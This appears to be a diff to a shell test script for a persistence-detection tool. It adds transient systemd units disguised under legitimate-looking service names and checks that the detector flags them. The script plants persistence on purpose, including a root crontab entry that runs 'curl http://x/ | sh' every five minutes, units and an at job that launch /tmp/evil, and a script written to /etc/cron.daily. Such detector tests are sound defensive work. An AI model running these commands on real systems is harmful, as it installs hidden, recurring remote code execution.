@@ -212,6 +212,9 @@ printf '[Service]\nExecStart=/tmp/evil\n' >/root/.config/systemd/user/evil.servi
 systemctl daemon-reload
 systemctl enable --now update.timer
 systemd-run --unit=hidden sleep 1000
+for name in packagekit esm-cache systemd-coredump@x ssh@evil dbus-:1.5-x; do
+	systemd-run --unit="$name" sleep 1000
+done
 (crontab -l; echo '*/5 * * * * curl http://x/ | sh') | crontab -
 echo '/tmp/evil' | at now + 1 day
 printf '#!/bin/sh\n/tmp/evil\n' >/etc/cron.daily/evil
@@ -229,6 +232,10 @@ seen "a new timer" "created service update.timer high" "state=waiting" "enabled=
 seen "as a job with its command" "created cron update.timer high" "command=/tmp/evil"
 seen "a unit of a user" "created service user/root/evil.service high" "exec_start=['/tmp/evil']"
 seen "a unit without a file" "created service hidden.service high" "enabled=transient"
+for name in packagekit esm-cache systemd-coredump@x ssh@evil; do
+	seen "not even as $name" "created service $name.service high" "exec_start=" "sleep"
+done
+seen "nor as a bus's" "created service dbus-:1.5-x.service medium" "enabled=transient"
 seen "a line in a crontab" "created cron /var/spool/cron/crontabs/root:curl" \
 	"schedule=*/5 * * * *"
 seen "an at job" "created cron /var/spool/cron/atjobs/a" "command=/tmp/evil"
